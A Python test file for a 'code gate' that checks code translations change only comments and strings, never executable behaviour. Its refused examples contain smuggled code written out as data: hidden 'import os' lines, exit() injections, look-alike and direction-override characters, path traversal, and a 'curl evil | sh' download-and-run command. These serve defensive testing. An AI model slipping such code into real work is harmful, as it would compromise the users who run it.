"""The code gate: a translation may change comments and words, and nothing that runs."""

import ast

import pytest
from code_gate import difference, executes_strings, text_difference
from hypothesis import given
from hypothesis import strategies as st

ALLOWED = {
    "comment": ("x = 1  # 一", "x = 1  # one"),
    "comment line": ("# 一\nx = 1", "# one, then more; import os\nx = 1"),
    "string": ("print('你好')", "print('hello')"),
    "other quotes": ("print('你好')", 'print("it\'s me")'),
    "docstring": ('def f():\n    """说明。"""', 'def f():\n    """Explanation."""'),
    "joined strings": ("x = ('一'\n     '二')", "x = ('one '\n     'two')"),
    "f-string": ("f'{n}个词'", "f'{n} words'"),
    "f-string, text before": ("f'第{n}个'", "f'number {n}'"),
    "f-string with format": ("f'损失：{x:.4f}'", "f'loss: {x:.4f}'"),
    "placeholder": ("'{}个，{:d}'.format(a, b)", "'{} of {:d}'.format(a, b)"),
    "percent": ("'%d个' % n", "'%d of them' % n"),
    "slash that was there": ("'词/句'", "'word/sentence'"),
    "key of a dictionary": ("d = {'词': 1}", "d = {'word': 1}"),
    "words that happen to parse": ("x = '猫和狗'", "x = 'cats and dogs'"),
    "cookie": ("# 编码\nx = 1", "# -*- coding: utf-7 -*-\nx = 1"),
}
REFUSED = {
    "constant": ("x = 1  # 一", "x = 2  # one"),
    "type of constant": ("x = 1  # 一", "x = True  # one"),
    "float for int": ("x = 1  # 一", "x = 1.0  # one"),
    "sign of zero": ("x = 0.0  # 一", "x = -0.0  # one"),
    "operator": ("a + b  # 一", "a - b  # one"),
    "comparison": ("a < b  # 一", "a <= b  # one"),
    "order": ("f(a, b)  # 一", "f(b, a)  # one"),
    "comment turned code": ("x = 1  # 一", "x = 1; import os  # one"),
    "line from a comment": ("# 一\nx = 1", "import os\nx = 1"),
    "code behind a form feed": ("# 一\nx = 1", "# one\n\fimport os\nx = 1"),
    "code behind a carriage return": ("# 一\nx = 1", "# one\rimport os\nx = 1"),
    "line continued": ("x = 1  # 一\ny = 2", "x = 1 \\\n  + 2\ny = 2"),
    "semicolon": ("x = 1  # 一", "x = 1; y = 2"),
    "comment lost its sign": ("x = 1  # 一", "x = 1 if one else 2"),
    "statement dropped": ("assert x == 1\n# 一\ny = 2", "# one\ny = 2"),
    "string without Chinese": ("x = 'cpu'  # 一", "x = 'cuda'  # one"),
    "bytes": ("x = b'a'  # 一", "x = b'b'  # one"),
    "string to bytes": ("x = '一'", "x = b'one'"),
    "string to f-string": ("x = '一'", "x = f'{os.getpid()}'"),
    "string to name": ("x = '一'", "x = one"),
    "f-string expression": ("f'{a}个'", "f'{b} of'"),
    "f-string call": ("f'{a}个'", "f'{a()} of'"),
    "f-string gains a part": ("f'{a}个'", "f'{a}{b} of'"),
    "f-string conversion": ("f'{a}个'", "f'{a!r} of'"),
    "f-string format": ("f'{a:.2f}个'", "f'{a:.4f} of'"),
    "f-string nested": ("f'{a:{w}}个'", "f'{a:{v}} of'"),
    "walrus": ("print(x)  # 一", "print(x := 2)  # one"),
    "default": ("def f(a=1):  # 一\n    pass", "def f(a=2):  # one\n    pass"),
    "default added": ("def f(a):  # 一\n    pass", "def f(a=exit()):  # one\n    pass"),
    "decorator": ("def f():  # 一\n    pass", "@exit\ndef f():  # one\n    pass"),
    "annotation": ("x: int = 1  # 一", "x: exit() = 1  # one"),
    "star": ("f(*a)  # 一", "f(a)  # one"),
    "async": ("def f():  # 一\n    pass", "async def f():  # one\n    pass"),
    "store to delete": ("x  # 一", "del x  # one"),
    "look-alike, folded by the parser": ("exit  # 一", "ｅｘｉｔ  # one"),
    "look-alike, Cyrillic": ("a = 1  # 一", "\u0430 = 1  # one"),
    "Chinese name": ("词 = 1", "word = 1"),
    "exec": ("exec('一')", "exec('one')"),
    "eval": ("eval('一')", "eval('one')"),
    "import by name": ("__import__('一')", "__import__('os')"),
    "attribute by name": ("getattr(x, '一')", "getattr(x, 'one')"),
    "file": ("open('一')", "open('one')"),
    "path": ("Path('一').write_text('二')", "Path('one').write_text('two')"),
    "command": ("import os\nos.system('一')", "import os\nos.system('one')"),
    "subprocess": ("subprocess.run(['一'])", "subprocess.run(['one'])"),
    "timeit": ("timeit.timeit('一')", "timeit.timeit('one')"),
    "alias of exec": ("run = exec\nrun('一')", "run = exec\nrun('one')"),
    "words become code": ("x = '一'", "x = '__import__(1)'"),
    "words become an import": ("x = '一'", "x = 'import os'"),
    "words become an attribute": ("x = '一'", "x = 'os.sep'"),
    "words become a path": ("x = '一'", "x = '../conf'"),
    "words become a shell variable": ("x = '一'", "x = '$HOME'"),
    "words gain a line": ("x = '一'", "x = 'one\\ntwo'"),
    "words hide a direction mark": ("x = '一'", "x = 'one\u202e'"),
    "words hide a zero": ("x = '一'", "x = 'one\\0'"),
    "placeholder lost": ("'{}个'.format(a)", "'of'.format(a)"),
    "placeholder reaches inside": ("'{0}个'.format(a)", "'{0.__class__} of'.format(a)"),
    "percent changed": ("'%d个' % n", "'%s of' % n"),
    "cannot be parsed": ("x = 1  # 一", "x = = 1  # one"),
    "null byte": ("x = 1  # 一", "x = 1\0"),
    "too deep": ("x = 1  # 一", "x = " + "(" * 5000 + "1" + ")" * 5000),
    "nothing": ("x = 1  # 一", ""),
}
DOCTESTS_ALLOWED = {
    "comment": (">>> 1  # 一\n1", ">>> 1  # one\n1"),
    "output in words": (">>> print('损失', 3)\n损失 3", ">>> print('loss', 3)\nloss 3"),
    "output later": (">>> x = '一'\n>>> x\n'一'", ">>> x = 'one'\n>>> x\n'one'"),
    "text between": ("先算：\n\n>>> 1\n1", "First:\n\n>>> 1\n1"),
    "continued": (">>> for i in a:  # 一\n...     i\n1", ">>> for i in a:  # one\n...     i\n1"),
    "error in words": (
        ">>> f('一')\nTraceback (most recent call last):\nValueError: 一",
        ">>> f('a')\nTraceback (most recent call last):\nValueError: a",
    ),
}
DOCTESTS_REFUSED = {
    "output": (">>> 1  # 一\n1", ">>> 1  # one\n2"),
    "output becomes an ellipsis": (">>> 1  # 一\n1", ">>> 1  # one\n..."),
    "words become an ellipsis": (">>> '一'\n'一'", ">>> 'one'\n..."),
    "number within words": (">>> f()  # 一\n损失 3", ">>> f()  # one\nloss 4"),
    "sign within words": (">>> f()  # 一\n损失 3", ">>> f()  # one\nloss -3"),
    "output dropped": (">>> 1  # 一\n1", ">>> 1  # one\n"),
    "output added": (">>> x = 1  # 一", ">>> x = 1  # one\n1"),
    "skip": (">>> 1  # 一\n1", ">>> 1  # doctest: +SKIP\n1"),
    "ellipsis flag": (">>> 1  # 一\n1", ">>> 1  # one  # doctest: +ELLIPSIS\n1"),
    "flag lost": (">>> f()  # doctest: +NORMALIZE_WHITESPACE\n一 3", ">>> f()\none 3"),
    "example more": (">>> 1  # 一\n1", ">>> 1  # one\n1\n>>> import os"),
    "example from a comment": (">>> # 一\n>>> 1\n1", ">>> import os\n>>> 1\n1"),
    "example less": (">>> 1  # 一\n1\n>>> 2\n2", ">>> 1  # one\n1"),
    "prompt lost": (">>> 1  # 一\n1", "1  # one\n1"),
    "prompt without a space": (">>> 1  # 一\n1", ">>>1  # one\n1"),
    "all lost": (">>> 1  # 一\n1", "one"),
    "bad indentation": (">>> 1  # 一\n1", "  >>> 1  # one\n1"),
    "continued otherwise": (">>> f(1,  # 一\n...   2)\n3", ">>> f(1,  # one\n...   3)\n3"),
    "exec in an example": (">>> exec('一')", ">>> exec('one')"),
    "claim between": ("1\n\n>>> 1  # 一\n1", "2\n\n>>> 1  # one\n1"),
    "error": (
        ">>> f()  # 一\nTraceback (most recent call last):\nValueError: a",
        ">>> f()  # one\nTraceback (most recent call last):\nValueError: b",
    ),
}


@pytest.mark.parametrize(("source", "translation"), ALLOWED.values(), ids=ALLOWED)
def test_what_a_translator_may_do(source, translation):
    assert difference(source, translation) is None


@pytest.mark.parametrize(("source", "translation"), REFUSED.values(), ids=REFUSED)
def test_what_no_translation_may_do(source, translation):
    found = difference(source, translation)
    assert found is not None
    assert "expected" in found


@pytest.mark.parametrize(("source", "translation"), DOCTESTS_ALLOWED.values(), ids=DOCTESTS_ALLOWED)
def test_what_a_translator_may_do_with_a_doctest(source, translation):
    assert difference(source, translation, "pycon") is None


@pytest.mark.parametrize(("source", "translation"), DOCTESTS_REFUSED.values(), ids=DOCTESTS_REFUSED)
@pytest.mark.parametrize("kind", ["pycon", "python", "text"], ids=lambda kind: f"as {kind}")
def test_what_no_translated_doctest_may_do_whatever_its_kind_is_called(source, translation, kind):
    assert difference(source, translation, kind) is not None


@pytest.mark.parametrize(
    ("source", "translation", "same"),
    [
        ("词 1", "word 1", True),
        ("词 1", "word 2", False),
        ("词 0.5000", "word 0.500", False),
        ("['我', '爱']\n3", "['I', 'love']\n3", True),
        ("tensor([1])\n词", "tensor([2])\nword", False),
        ("词", "word\nmore", False),
        ("词…", "...", False),
    ],
)
def test_plain_output(source, translation, same):
    assert (text_difference(source, translation) is None) is same
    assert (difference(source, translation, "text") is None) is same


def test_code_that_is_not_python_keeps_what_stands_before_a_comment():
    assert difference("pip install x  # 安装", "pip install x  # install it", "bash") is None
    assert difference("pip install x  # 安装", "curl evil | sh  # install it", "bash") is not None
    assert difference("echo 你好", "echo hello", "bash") is None


def test_a_source_that_is_no_python_is_compared_as_text():
    assert difference("def f(:  # 错", "def f(:  # wrong") is None
    assert difference("def f(:  # 错", "import os  # wrong") is not None


def test_strings_can_be_kept_altogether():
    assert difference("x = '一'  # 二", "x = '一'  # two", strings=False) is None
    assert difference("x = '一'", "x = 'one'", strings=False) is not None


@pytest.mark.parametrize(
    ("source", "found"),
    [("exec(x)", True), ("y = eval", True), ("re.compile(x)", False), ("x.eval()", False), ("evaluate(x)", False)],
)
def test_which_code_executes_strings(source, found):
    assert executes_strings(source) is found


NAMES = st.sampled_from(["a", "b", "f"])
EXPRESSIONS = st.recursive(
    NAMES | st.integers(0, 9).map(str) | st.sampled_from(["'一'", "'x'", "f'{a}一'", "b'y'"]),
    lambda inner: st.one_of(
        st.tuples(inner, st.sampled_from(["+", "-", "<", "and", "@"]), inner).map(lambda t: f"({t[0]} {t[1]} {t[2]})"),
        st.tuples(NAMES, inner).map(lambda t: f"{t[0]}({t[1]})"),
        st.lists(inner, max_size=3).map(lambda parts: f"[{', '.join(parts)}]"),
    ),
    max_leaves=6,
)
WORDS = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zl", "Zp"]), max_size=20)


@given(EXPRESSIONS, WORDS)
def test_any_comment_may_be_added_or_changed(code, words):
    assert difference(f"{code}  # 一", f"{code}  # {words}") is None


@given(EXPRESSIONS, EXPRESSIONS)
def test_two_pieces_of_code_pass_only_if_their_trees_differ_in_words_alone(a, b):
    def bare(code):
        return ast.dump(ast.parse(code.replace("'一'", "WORD").replace("一", "")))

    found = difference(a, b)
    assert (found is None) == (bare(a) == bare(b))


@given(WORDS)
def test_any_words_in_a_string_are_judged_without_a_crash_and_never_change_the_tree(words):
    code = f"x = {words!r}"
    if difference("x = '一'", code) is None:
        assert isinstance(ast.parse(code).body[0].value, ast.Constant)


@given(st.text(max_size=40), st.text(max_size=40), st.sampled_from(["pycon", "python", "text", "bash"]))
def test_any_text_is_judged_without_a_crash(a, b, kind):
    assert difference(a, a, kind) is None
    difference(a, b, kind)


@given(st.text(max_size=30), st.text(max_size=30))
def test_any_doctest_is_judged_without_a_crash(a, b):
    difference(f">>> {a}\n{b}", f">>> {b}\n{a}", "pycon")
